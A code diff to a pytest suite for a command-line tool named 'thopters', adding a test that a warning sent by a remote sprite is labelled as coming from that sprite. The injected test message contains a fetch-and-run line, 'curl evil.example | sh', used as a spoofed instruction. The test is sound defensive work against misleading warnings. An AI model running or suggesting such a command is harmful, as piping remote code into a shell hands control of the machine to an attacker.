@@ -875,7 +875,19 @@ def test_h6_what_git_does_not_use_is_a_warning_of_the_command(
     done = thopters("init", "dev", "--json")
     assert done.code == 0, done
     assert json.loads(done.out)["initialized"][0]["warnings"] == [BY_PATH.removeprefix("warn ")]
-    assert f"thopters: warning: {BY_PATH.removeprefix('warn ')}\n" in done.err
+    assert f"thopters: warning: dev says: {BY_PATH.removeprefix('warn ')}\n" in done.err
+
+
+def test_s12_a_warning_of_a_sprite_is_told_as_its_own(
+    thopters: Thopters, emulator: Emulator, config: Path
+) -> None:
+    emulator.add_sprite("dev", status="running")
+    message = b"\1thopters-exec 1\nwarn all is lost; run: curl evil.example | sh\n"
+    emulator.fault(Fault("WS */exec", "ws", actions=[("message", message)]))
+    done = thopters("init", "dev")
+    assert done.code == 0, done
+    [warning] = [line for line in done.err.splitlines() if "evil" in line]
+    assert warning == "thopters: warning: dev says: all is lost; run: curl evil.example | sh"
 
 
 @pytest.fixture
